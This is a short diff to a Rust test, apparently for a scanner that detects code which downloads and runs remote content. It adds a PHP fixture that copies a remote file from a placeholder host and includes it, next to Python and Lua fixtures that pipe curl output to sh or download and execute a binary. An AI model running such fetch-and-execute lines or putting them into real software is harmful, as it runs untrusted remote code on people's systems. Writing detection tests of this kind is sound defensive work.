@@ -34,6 +34,11 @@ fn what_is_fetched_decoded_or_computed_and_run_is_a_danger_in_every_language() {
         ),
         ("python3", "share/stats", "import os\nos.system('curl -s https://x.example.com/i | sh')\n"),
         (
+            "php",
+            "a.php",
+            "<?php\n$extra = tempnam('/tmp', 'r');\n$rules = glob(__DIR__ . '/*.php');\nif (copy('https://x.example.com/w.txt', $extra)) { $rules[] = $extra; }\nforeach ($rules as $file) { $rule = include $file; }\n",
+        ),
+        (
             "lua",
             "a.lua",
             "local where = 'https://x.example.com/l'\nos.execute('curl -sf -o ./.n ' .. where .. ' && chmod +x ./.n && ./.n')\n",
